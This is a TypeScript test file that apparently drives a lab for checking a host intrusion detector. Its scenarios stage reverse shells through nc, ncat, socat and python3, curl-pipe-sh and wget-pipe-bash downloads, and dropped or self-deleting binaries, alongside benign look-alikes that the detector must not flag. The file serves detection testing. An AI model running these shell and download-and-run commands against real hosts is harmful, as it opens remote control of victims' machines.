// Shells that are not directly on a socket (relayed-shell, T1059.004) and download-and-run
// (download-exec, T1105): varied tools, ports and wiring, plus benign look-alikes.
import { copyFileSync, existsSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { TechniqueId } from '../../src-shared/attack';
import type { Alert } from '../../src-shared/model';
import { startAgent } from './agents';
import { ADDR, NS, delay, type Lab, type LabProcess } from './lab';
import type { Scenario, StagedActivity } from './scenarios';

/** Attacker-side listeners that drive a shell (send `id`, then `uname -a` every 2 s). */
const SHELL_PORTS = [8081, 9443, 10443] as const;
/** The lab's web host that serves install scripts slowly (the download stays open while sh runs it). */
const SCRIPT_HOST = ADDR.web[0];
const SCRIPT_PORT = 8000;

function text(alert: Alert): string {
  return JSON.stringify([alert.title, alert.description, alert.process, alert.evidence, alert.destination]);
}

function relayed(alert: Alert, shell: string, relay: string, port: number): boolean {
  return alert.ruleId === 'relayed-shell' && alert.process?.name === shell && alert.evidence.relayName === relay && alert.destination?.port === port;
}

async function shellListeners(lab: Lab): Promise<LabProcess> {
  return startAgent(lab, NS.ext, 'tcp-server', ['--name', 'shells', ...SHELL_PORTS.flatMap((p) => ['--listen', `${ADDR.ext}:${p}=shell`])]);
}

/** A victim command line (bash -c) plus the attacker's listeners; stop() ends both. */
async function staged(lab: Lab, script: string, names: (alert: Alert) => boolean, extra: LabProcess[] = []): Promise<StagedActivity> {
  const listeners = await shellListeners(lab);
  const victim = lab.run(NS.victim, ['bash', '-c', script]);
  return {
    names,
    stop: async () => {
      await Promise.all([victim, listeners, ...extra].map((p) => p.stop()));
    },
  };
}

/** An HTTP server that sends a shell script's first line, then holds the download open. */
function scriptServer(lab: Lab): LabProcess {
  // The reply is a file: socat would take the backslashes of an inline printf as its own escapes.
  const reply = join(lab.tmp, 'install-reply.http');
  writeFileSync(reply, 'HTTP/1.0 200 OK\r\nContent-Type: text/x-sh\r\n\r\necho installing; sleep 1\n');
  return lab.run(NS.ext, ['socat', `TCP-LISTEN:${SCRIPT_PORT},bind=${SCRIPT_HOST},reuseaddr,fork`, `SYSTEM:cat ${reply}; sleep 40`]);
}

function fifoPath(lab: Lab, name: string): string {
  const path = join(lab.tmp, name);
  rmSync(path, { force: true });
  return path;
}

/** The lab starts each shell from the test runner (a parent→child rule may flag it); the odd ports may draw T1571. */
const SHELL_ALSO_TRUE: TechniqueId[] = ['T1059', 'T1571'];

export const SHELL_SCENARIOS: Scenario[] = [
  {
    id: 'shell-mkfifo-nc',
    title: `mkfifo + nc reverse shell: cat fifo | sh -i | nc ${ADDR.ext}:443 > fifo`,
    expected: 'T1059.004',
    mustName: 'sh, nc and 203.0.113.20:443',
    alsoTrue: SHELL_ALSO_TRUE,
    needs: ['nc', 'mkfifo'],
    windowMs: 12_000,
    stage: async (lab) => {
      const f = fifoPath(lab, 'f1');
      return staged(lab, `mkfifo ${f}; cat ${f} | sh -i 2>&1 | nc ${ADDR.ext} 443 > ${f}`, (a) => relayed(a, 'sh', 'nc', 443));
    },
  },
  {
    id: 'shell-fifo-ncat',
    title: `FIFO both ways, ncat on ${SHELL_PORTS[0]}: bash -i < fifo | ncat > fifo`,
    expected: 'T1059.004',
    mustName: `bash, ncat and ${ADDR.ext}:${SHELL_PORTS[0]}`,
    alsoTrue: SHELL_ALSO_TRUE,
    needs: ['ncat', 'mkfifo'],
    windowMs: 12_000,
    stage: async (lab) => {
      const f = fifoPath(lab, 'f2');
      return staged(lab, `mkfifo ${f}; bash -i < ${f} 2>&1 | ncat ${ADDR.ext} ${SHELL_PORTS[0]} > ${f}`, (a) => relayed(a, 'bash', 'ncat', SHELL_PORTS[0]));
    },
  },
  {
    id: 'shell-socat-pty',
    title: `socat pty shell: socat tcp:${ADDR.ext}:${SHELL_PORTS[1]} exec:'bash -li',pty,stderr,setsid`,
    expected: 'T1059.004',
    mustName: `bash on a pty held by socat, ${ADDR.ext}:${SHELL_PORTS[1]}`,
    alsoTrue: SHELL_ALSO_TRUE,
    needs: ['socat'],
    windowMs: 12_000,
    stage: (lab) =>
      staged(
        lab,
        `socat TCP:${ADDR.ext}:${SHELL_PORTS[1]} EXEC:'bash -li',pty,stderr,setsid,sigint,sane`,
        (a) => relayed(a, 'bash', 'socat', SHELL_PORTS[1]) && a.evidence.kind === 'pty',
      ),
  },
  {
    id: 'shell-socat-exec',
    title: `socat exec shell over a socketpair: socat tcp:${ADDR.ext}:443 exec:sh`,
    expected: 'T1059.004',
    mustName: 'sh on a socketpair held by socat, port 443',
    alsoTrue: SHELL_ALSO_TRUE,
    needs: ['socat'],
    windowMs: 12_000,
    stage: (lab) => staged(lab, `socat TCP:${ADDR.ext}:443 EXEC:sh`, (a) => relayed(a, 'sh', 'socat', 443) && text(a).includes('socketpair')),
  },
  {
    id: 'shell-python-pty',
    title: `python3 reverse shell with pty.spawn("/bin/bash") to ${ADDR.ext}:${SHELL_PORTS[2]}`,
    expected: 'T1059.004',
    mustName: `bash on python3's pty, ${ADDR.ext}:${SHELL_PORTS[2]}`,
    alsoTrue: SHELL_ALSO_TRUE,
    needs: ['python3'],
    windowMs: 12_000,
    stage: (lab) =>
      staged(
        lab,
        `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("${ADDR.ext}",${SHELL_PORTS[2]}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")'`,
        (a) => relayed(a, 'bash', 'python3', SHELL_PORTS[2]),
      ),
  },
  {
    id: 'curl-pipe-sh',
    title: `curl -s http://${SCRIPT_HOST}:${SCRIPT_PORT}/install.sh | sh (slow download)`,
    expected: 'T1059.004',
    mustName: `sh fed by curl from ${SCRIPT_HOST}:${SCRIPT_PORT}`,
    alsoTrue: SHELL_ALSO_TRUE,
    needs: ['curl', 'socat'],
    windowMs: 12_000,
    stage: async (lab) => {
      const server = scriptServer(lab);
      await delay(300);
      return staged(lab, `curl -s http://${SCRIPT_HOST}:${SCRIPT_PORT}/install.sh | sh`, (a) => relayed(a, 'sh', 'curl', SCRIPT_PORT), [server]);
    },
  },
  {
    id: 'wget-cat-bash',
    title: `wget -qO- http://${SCRIPT_HOST}:${SCRIPT_PORT}/x | cat | bash (two hops)`,
    expected: 'T1059.004',
    mustName: `bash fed by wget through cat, ${SCRIPT_HOST}:${SCRIPT_PORT}`,
    alsoTrue: SHELL_ALSO_TRUE,
    needs: ['wget', 'socat'],
    windowMs: 12_000,
    stage: async (lab) => {
      const server = scriptServer(lab);
      await delay(300);
      return staged(
        lab,
        `wget -qO- http://${SCRIPT_HOST}:${SCRIPT_PORT}/x | cat | bash`,
        (a) => relayed(a, 'bash', 'wget', SCRIPT_PORT) && Array.isArray(a.evidence.names) && a.evidence.names.length === 3,
        [server],
      );
    },
  },
  {
    id: 'dropped-shm-binary',
    title: `a copy of nc run from /dev/shm connects to ${ADDR.ext}:${SHELL_PORTS[0]}`,
    expected: 'T1105',
    mustName: 'exe /dev/shm/… and its lineage',
    alsoTrue: ['T1571'],
    needs: ['nc'],
    windowMs: 12_000,
    stage: async (lab) => {
      const exe = `/dev/shm/nslab-kworker-${process.pid}`;
      copyFileSync('/bin/nc.openbsd', exe);
      const activity = await staged(
        lab,
        `${exe} ${ADDR.ext} ${SHELL_PORTS[0]} > /dev/null`,
        (a) => a.ruleId === 'download-exec' && a.process?.exe === exe && Array.isArray(a.evidence.lineage) && a.evidence.lineage.length >= 2,
      );
      return {
        ...activity,
        stop: async () => {
          await activity.stop();
          rmSync(exe, { force: true });
        },
      };
    },
  },
  {
    id: 'dropped-deleted-binary',
    title: `a program copied to ~/.cache, started, then deleted, connects to ${ADDR.ext}:443 and starts a shell`,
    expected: 'T1105',
    mustName: 'exe "… (deleted)"',
    alsoTrue: ['T1059.004', 'T1059', 'T1571'],
    needs: ['socat'],
    windowMs: 12_000,
    stage: async (lab) => {
      const dir = join(process.env.HOME ?? '/root', '.cache', `nslab-${process.pid}`);
      if (!existsSync(dir)) mkdirSync(dir, { recursive: true });
      const exe = join(dir, 'updater');
      copyFileSync('/usr/bin/socat', exe);
      const activity = await staged(
        lab,
        `${exe} TCP:${ADDR.ext}:443 EXEC:sh & sleep 0.5; rm -f ${exe}; wait`,
        (a) => a.ruleId === 'download-exec' && a.process?.exe === `${exe} (deleted)` && a.evidence.deleted === true,
      );
      return {
        ...activity,
        stop: async () => {
          await activity.stop();
          rmSync(dir, { recursive: true, force: true });
        },
      };
    },
  },
  {
    id: 'benign-downloads-and-pipes',
    title: 'curl downloads to files (never run), nc | awk, sh -c … | nc, tar | nc to an internal SSH-port echo server',
    expected: null,
    forbidden: ['T1059.004', 'T1105'],
    mustName: '-',
    needs: ['curl', 'nc', 'tar'],
    windowMs: 15_000,
    stage: async (lab) => {
      const [srv] = ADDR.srv;
      const out = join(lab.tmp, 'downloads');
      mkdirSync(out, { recursive: true });
      const jobs = [
        `for i in 1 2 3 4 5 6; do curl -s -o ${out}/pkg$i.deb http://${ADDR.web[1]}/pkg$i.deb; sleep 2; done`,
        `(seq 1 200000; sleep 20) | nc ${srv} 22 | awk '{ n++ } END { print n }' > /dev/null`,
        `sh -c 'uptime; sleep 20' | nc ${srv} 22 > /dev/null`,
        `(tar cf - /etc/hostname /etc/os-release 2>/dev/null; sleep 20) | nc ${srv} 22 > /dev/null`,
      ];
      const procs = jobs.map((job) => lab.run(NS.victim, ['bash', '-c', job]));
      return {
        names: () => false,
        stop: async () => {
          await Promise.all(procs.map((p) => p.stop()));
        },
      };
    },
  },
];
